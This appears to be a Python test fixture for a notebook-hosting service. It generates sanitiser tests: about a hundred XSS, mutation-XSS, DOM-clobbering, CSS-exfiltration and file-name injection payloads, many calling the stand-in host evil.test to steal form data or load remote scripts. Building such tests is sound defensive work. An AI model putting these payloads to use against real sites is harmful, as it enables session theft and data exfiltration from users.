"""Hostile labs. Each tries to call `trap(…)` on our origin, or to send something to `EVIL`."""

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.support.content import cell, notebook

EVIL = "http://evil.test"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A lab that means harm."""

    name: str
    files: dict[str, bytes]
    details: dict[str, Any] = field(default_factory=dict)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SCRIPT = "<script>trap('script')</script>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"trap('svg')\"><script>trap('svg')</script></svg>"

# Each stands in a markdown cell, in a text/html output, and in the README.
SNIPPETS = {
    "script": SCRIPT,
    "script-src": f"<script src='{EVIL}/x.js'></script>",
    "script-src-own": "<script src='api/v1/labs/mallory/script/revisions/1/files/x.js'></script>",
    "script-broken": "<scr<script>ipt>trap(1)</scr</script>ipt>",
    "script-slash": "<script/x>trap(1)</script/x>",
    "script-module": f"<script type=module>import '{EVIL}/x.js'; trap(1)</script>",
    "img-onerror": "<img src=x onerror=trap('img')>",
    "img-onerror-slashes": "<img/src=x/onerror=trap('img')//",
    "img-backtick": "<img src=`x`onerror=trap(1)>",
    "img-remote": f"<img src='{EVIL}/pixel.png'>",
    "img-srcset": f"<img srcset='{EVIL}/a.png 1x' src='data:image/png;base64,AA=='>",
    "img-svg-data": f"<img src='data:image/svg+xml;base64,{b64(SVG)}'>",
    "img-dynsrc": f"<img lowsrc='{EVIL}/a' dynsrc='{EVIL}/b'>",
    "picture": f"<picture><source srcset='{EVIL}/a.png'><img src=x></picture>",
    "svg-onload": "<svg onload=trap('svg')>",
    "svg-script": "<svg><script>trap('svg')</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:trap(1) /><text>x</text></a></svg>",
    "svg-use": f"<svg><use href='data:image/svg+xml;base64,{b64(SVG)}#x'/></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=trap(1)></foreignObject></svg>",
    "svg-image": f"<svg><image href='{EVIL}/a.png'/></svg>",
    "svg-set": "<svg><set attributeName=onmouseover to=trap(1)></svg>",
    "math-href": "<math href='javascript:trap(1)'><mi>x</mi></math>",
    "math-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=trap(1)&gt;'>",
    "math-annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=trap(1)></annotation-xml></math>",
    "math-mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap(1)>",
    "noscript-mutation": "<noscript><p title='</noscript><img src=x onerror=trap(1)>'>",
    "template-mutation": "<template><img src=x onerror=trap(1)></template>",
    "textarea-mutation": "<textarea><img title='</textarea><img src=x onerror=trap(1)>'>",
    "title-mutation": "<title><img src='</title><img src=x onerror=trap(1)>'></title>",
    "comment-mutation": "<!--><img src=x onerror=trap(1)>-->",
    "cdata-mutation": "<svg><![CDATA[><img src=x onerror=trap(1)>]]></svg>",
    "xmp-mutation": "<xmp><p title='</xmp><img src=x onerror=trap(1)>'></xmp>",
    "a-javascript": "<a href='javascript:trap(1)'>x</a>",
    "a-javascript-tab": "<a href='java\tscript:trap(1)'>x</a>",
    "a-javascript-entity": "<a href='&#106;&#97;vascript&colon;trap(1)'>x</a>",
    "a-javascript-control": "<a href='\x01javascript:trap(1)'>x</a>",
    "a-vbscript": "<a href='vbscript:trap(1)'>x</a>",
    "a-data": f"<a href='data:text/html;base64,{b64(SCRIPT)}'>x</a>",
    "a-ping": f"<a href='#x' ping='{EVIL}/ping'>x</a>",
    "a-target": f"<a href='{EVIL}/' target=_top id=evil>x</a>",
    "md-javascript": "[x](javascript:trap(1)) [y](<javascript:trap(1)>) ![z](javascript:trap(1))",
    "md-data": f"[x](data:text/html;base64,{b64(SCRIPT)}) ![y](data:text/html;base64,{b64(SCRIPT)})",
    "md-autolink": "<javascript:trap(1)> <data:text/html,x>",
    "md-quote": '![a" onerror="trap(1)](x "t" onload="trap(1)")',
    "md-remote": f"![x]({EVIL}/pixel.png) ![y](//evil.test/z.png)",
    "md-reference": '[x][1]\n\n[1]: javascript:trap(1) "t"',
    "md-code-fence": '```"><script>trap(1)</script>\nx\n```\n~~~<img src=x onerror=trap(1)>\ny\n~~~',
    "md-heading-id": '# <img src=x onerror=trap(1)> " onmouseover=trap(1) x="\n## two',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.trap('frame')</script>\"></iframe>",
    "iframe-javascript": "<iframe src='javascript:parent.trap(1)'></iframe>",
    "iframe-remote": f"<iframe src='{EVIL}/frame'></iframe>",
    "object": f"<object data='{EVIL}/x'></object><embed src='{EVIL}/y'>",
    "object-data": f"<object data='data:text/html;base64,{b64(SCRIPT)}'></object>",
    "applet": f"<applet code=x archive='{EVIL}/x.jar'></applet>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "meta-refresh-js": "<meta http-equiv=refresh content='0;url=javascript:trap(1)'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "base": f"<base href='{EVIL}/'>",
    "link-style": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "link-prefetch": f"<link rel=prefetch href='{EVIL}/x'><link rel=dns-prefetch href='//evil.test'>",
    "link-manifest": f"<link rel=manifest href='{EVIL}/m.json'>",
    "style-import": f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/y)}}</style>",
    "style-exfiltration": f"<style>input[value^='a']{{background:url({EVIL}/a)}}</style><input value=abc>",
    "style-attribute": f"<p style='background:url({EVIL}/x);background-image:url({EVIL}/y)'>x</p>",
    "style-colour-url": f"<p style='color:url({EVIL}/x);background-color:image-set(\"{EVIL}/y\" 1x)'>x</p>",
    "style-overlay": "<p style='position:fixed;inset:0;z-index:9999;width:100vw;height:100vh' id=overlay>x</p>",
    "style-expression": "<p style='width:expression(trap(1));behavior:url(x)'>x</p>",
    "class-overlay": "<div class='position-fixed top-0 start-0 vw-100 vh-100 modal show d-block ml-menu-items' id=overlay>x</div>",
    "form": f"<form action='{EVIL}/steal' id=evilform><input name=_csrf><button>go</button></form>",
    "form-button": "<button form=explore formaction='javascript:trap(1)'>x</button>",
    "input-image": f"<input type=image src='{EVIL}/a' onerror=trap(1)>",
    "input-autofocus": "<input autofocus onfocus=trap(1)>",
    "details-toggle": "<details open ontoggle=trap(1)><summary>x</summary></details>",
    "marquee": "<marquee onstart=trap(1)>x</marquee>",
    "video-onerror": "<video><source onerror=trap(1) src=x></video>",
    "video-remote": f"<video poster='{EVIL}/p.png' src='{EVIL}/v.mp4' autoplay></video>",
    "audio-remote": f"<audio src='{EVIL}/a.mp3' autoplay onplay=trap(1)></audio><track src='{EVIL}/t'>",
    "body-onload": "<body onload=trap(1) background='http://evil.test/b.png'>",
    "dialog-popover": "<dialog open onclose=trap(1)>x</dialog><div popover id=p>y</div><button popovertarget=p>z</button>",
    "slot-event": "<div onpointerenter=trap(1) onanimationstart=trap(1) onclick=trap(1) tabindex=0>x</div>",
    "table-background": f"<table background='{EVIL}/t.png'><tr><td background='{EVIL}/c.png'>x</td></tr></table>",
    "clobber": "<form id=htmx></form><a id=mlShowTimes href='x'>x</a><img name=cookie><img name=body><a id=main>y</a>",
    "clobber-nested": "<form id=document><input name=documentElement></form><iframe name=self></iframe>",
    "dangling": f"<img src='{EVIL}/steal?",
    "dangling-base": "<base target='",
    "htmx": f"<div hx-get='{EVIL}/x' hx-trigger=load hx-on:load='trap(1)' data-hx-get='{EVIL}/y' data-hx-trigger=load>x</div>",
    "htmx-vals": "<div hx-get='/services/labs/' hx-trigger='load[trap(1)]' hx-vals='js:{x:trap(1)}'>x</div>",
    "our-markup": "<form data-ml-submit method=post action='/services/labs/trash'></form><button class=ml-copy>x</button>",
    "custom-element": "<x-trap onclick=trap(1) is=script>x</x-trap>",
    "commandlinker": "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</button>",
    "formula": "$\\href{javascript:trap(1)}{x}$ $\\text{<img src=x onerror=trap(1)>}$ $\\unicode{<script>trap(1)</script>}$",
    "formula-attribute": "![$x$](x) <a title='$<img src=x onerror=trap(1)>$'>y</a> $\\style{position:fixed}{x}$ $\\class{modal}{y}$",
    "formula-mark": "<data value='0-0'></data><data value='\"><script>trap(1)</script>'></data>$x$",
    "link-mark": "<a href='ml-raw:../../../../hub/logout'>x</a><img src='ml-file:x'><img src='ml-remote:javascript:trap(1)'>",
    "null-bytes": "<scr\x00ipt>trap(1)</scr\x00ipt><img src=x on\x00error=trap(1)>",
    "utf7": "+ADw-script+AD4-trap(1)+ADw-/script+AD4-",
    "deep": "<div>" * 3000 + SCRIPT,
    "bidi": "\u202e<script>trap(1)</script>\u202c",
    "page-marker": "<!--ml:content--><script>trap(1)</script>",
}  # fmt: skip

# Each is the data of one output.
OUTPUTS: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": "trap('js')", "text/plain": "<b onclick=trap(1)>"},
    "javascript-alone": {"application/javascript": "trap('js')"},
    "text-javascript": {"text/javascript": "trap('js')"},
    "svg": {"image/svg+xml": SVG},
    "svg-remote": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/x.png' width='9' height='9'/></svg>"},
    "png-quote": {"image/png": '" onerror="trap(1)" x="', "text/plain": "x"},
    "png-not-text": {"image/png": {"x": "y"}, "image/jpeg": ["AA", 3]},
    "gif-script": {"image/gif": b64("GIF89a/*" + SCRIPT)},
    "hostile-mime": {'image/png" onerror="trap(1)': "AA==", "text/html;charset=utf-7": "+ADw-script+AD4-"},
    "latex": {"text/latex": "$\\href{javascript:trap(1)}{x}$ <img src=x onerror=trap(1)>"},
    "markdown": {"text/markdown": f"<img src=x onerror=trap(1)> ![x]({EVIL}/p.png)"},
    "plain": {"text/plain": "<script>trap(1)</script>\x1b]8;;javascript:trap(1)\x07x\x1b]8;;\x07"},
    "json": {"application/json": {"</script><script>trap(1)</script>": SCRIPT}},
    "plotly": {"application/vnd.plotly.v1+json": {"data": [{"text": SCRIPT}], "layout": {}},
               "text/html": "<div id=plot></div><script>require(['plotly'],()=>trap(1))</script>"},
    "vega": {"application/vnd.vegalite.v5+json": {"data": {"url": f"{EVIL}/d.json"}}, "text/plain": "<VegaLite>"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "<img src=x onerror=trap(1)>"},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "application/vnd.bokehjs_load.v0+json": "trap(1)", "text/html": SCRIPT},
    "geojson": {"application/geo+json": {"type": "Point", "coordinates": [f"<img src={EVIL}/x>"]}},
    "pdf": {"application/pdf": b64("%PDF-1.4 /JS (trap)")},
    "html-list": {"text/html": ["<img src=x ", "onerror=trap(1)>", "<script>", "trap(1)</script>"]},
    "html-base": {"text/html": f"<base href='{EVIL}/'><a href='x'>x</a>"},
    "html-iframe": {"text/html": f"<iframe src='{EVIL}/frame' srcdoc='{SCRIPT}'></iframe>"},
    "image-url": {"image/png": f"{EVIL}/pixel.png", "text/plain": "x"},
}  # fmt: skip


def corpus() -> Iterator[Hostile]:
    """Yield every hostile lab."""
    for name, html in SNIPPETS.items():
        cells = [
            cell("markdown", html, "a"),
            cell("code", html, "b", [_output({"text/html": html})], 1),
            cell("raw", html, "c"),
        ]
        yield Hostile(
            name,
            {"main.ipynb": notebook(cells), "README.md": html.encode(), "x.js": b"trap('x.js')"},
        )
    for name, data in OUTPUTS.items():
        cells = [cell("code", "show()", "a", [_output(data)], 1)]
        yield Hostile(f"output-{name}", {"main.ipynb": notebook(cells)})
    yield from _notebooks()
    yield from _files()
    yield from _details()


def _output(data: dict[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}}


def _notebooks() -> Iterator[Hostile]:
    breaks = '"><img src=x onerror=trap(1)>'
    svg = b64(SVG)
    odd: list[dict[str, Any]] = [
        {"cell_type": "code", "id": breaks, "source": "1", "outputs": [
            {"output_type": "error", "ename": breaks, "evalue": breaks, "traceback": [breaks, SCRIPT]},
            {"output_type": "error", "ename": SCRIPT, "evalue": breaks, "traceback": []},
            {"output_type": "stream", "name": breaks, "text": SCRIPT},
            {"output_type": breaks, "data": {breaks: breaks}}],
         "metadata": {"jupyter": {"source_hidden": breaks}}, "execution_count": breaks},
        {"cell_type": breaks, "source": SCRIPT},
        {"cell_type": "markdown", "source": "![x](attachment:a.svg) ![y](attachment:b) "
         "![z](attachment:c) <img src='attachment:d'>",
         "attachments": {"a.svg": {"image/svg+xml": svg}, "b": {"text/html": b64(SCRIPT)},
                         "c": {'image/png" onerror="trap(1)': "AA=="},
                         "d": {"image/png": '" onerror="trap(1)'}}},
    ]  # fmt: skip
    yield Hostile("odd-notebook", {"main.ipynb": notebook(odd)})
    language = {"language_info": {"name": breaks, "pygments_lexer": "html"}}
    yield Hostile(
        "odd-language",
        {"main.ipynb": notebook([cell("code", SCRIPT, "a")], **language)},
    )
    size = _output({"image/png": "AA=="}) | {
        "metadata": {"image/png": {"width": '1" onload="trap(1)', "height": 1e308}}
    }
    yield Hostile("odd-size", {"main.ipynb": notebook([cell("code", "1", "a", [size])])})
    colours = "\x1b[31;<script>m\x1b[38;2;300;300;300m<script>trap(1)</script>\x1b[0m\x1bP\x1b\\"
    stream = {"output_type": "stream", "name": "stdout", "text": colours}
    yield Hostile("odd-colours", {"main.ipynb": notebook([cell("code", "1", "a", [stream])])})
    magic = f"%%html\n{SCRIPT}\n<img src=x onerror=trap(1)>"
    yield Hostile("magic-html", {"main.ipynb": notebook([cell("code", magic, "a")])})
    trusted = json.loads(notebook([cell("code", "1", "a", [_output({"text/html": SCRIPT})])]))
    trusted["cells"][0]["metadata"] = {"trusted": True}
    trusted["metadata"]["signature"] = "trusted"
    yield Hostile("says-it-is-trusted", {"main.ipynb": json.dumps(trusted).encode()})


def _files() -> Iterator[Hostile]:
    harmless = notebook([cell("markdown", "harmless", "a")])
    for name, path, content in [
        ("svg-file", "evil.svg", SVG.encode()),
        ("html-file", "evil.html", SCRIPT.encode()),
        ("xhtml-file", "evil.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT.encode()),
        ("xml-file", "evil.xml", f"<?xml-stylesheet href='{EVIL}/x.xsl'?><x>{SCRIPT}</x>".encode()),
        ("js-file", "evil.js", b"trap(1)"),
        ("css-file", "evil.css", f"@import '{EVIL}/x.css';".encode()),
        ("csv-file", "evil.csv", f"a,{SCRIPT}\n<img src=x onerror=trap(1)>,=cmd()\n".encode()),
        ("txt-file", "evil.txt", SCRIPT.encode()),
        ("png-that-is-html", "evil.png", SCRIPT.encode()),
        ("markdown-file", "evil.md", f"{SCRIPT} [x](javascript:trap(1)) ![y]({EVIL}/p)".encode()),
        ("quoted-name", 'a"onmouseover="trap(1).py', b"x = 1"),
        ("tag-name", "<img src=x onerror=trap(1)>.csv", b"a,b\n1,2\n"),
        ("tag-folder", "<script>trap(1)<!--/x.md", b"x"),
        ("javascript-name", "javascript:trap(1)", b"x"),
        ("percent-name", "%3Cscript%3Etrap(1)%3C%2Fscript%3E.txt", b"x"),
        ("query-name", "a?b#c&d=e.txt", b"x"),
        ("unicode-name", "\u202egnp.exe\u202c \u2028.md", b"x"),
    ]:  # fmt: skip
        yield Hostile(name, {"main.ipynb": harmless, path: content})


def _details() -> Iterator[Hostile]:
    harmless = {"main.ipynb": notebook([cell("markdown", "harmless", "a")])}
    breaks = '"><img src=x onerror=trap(1)>'
    closes = "</title></textarea></script><script>trap(1)</script>"
    yield Hostile("title", harmless, {"title": breaks, "description": closes})
    yield Hostile("title-script", harmless, {"title": closes, "description": breaks})
    yield Hostile(
        "title-template", harmless, {"title": "{{7*7}}{% raw %}", "description": "${7*7}"}
    )
    yield Hostile(
        "title-marker", harmless, {"title": "<!--ml:content-->", "description": "ml-raw:"}
    )
    yield Hostile("message", harmless, {"title": "Message", "message": breaks + closes})
    yield Hostile("code-face", {"main.py": f"# {closes}{breaks}\n".encode()}, {"title": "Face"})
